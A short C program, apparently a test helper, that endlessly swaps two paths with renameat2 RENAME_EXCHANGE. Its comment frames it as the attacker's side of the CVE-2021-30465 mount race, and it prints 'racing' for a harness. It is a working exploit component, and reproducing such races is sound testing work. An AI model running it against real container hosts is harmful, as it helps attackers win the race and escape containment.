/* Swaps two paths atomically (renameat2 RENAME_EXCHANGE), over and over,
 * until killed: a racing attacker's view of a mount target (CVE-2021-30465).
 * Prints "racing" once it has started. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  printf("racing\n");
  fflush(stdout);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
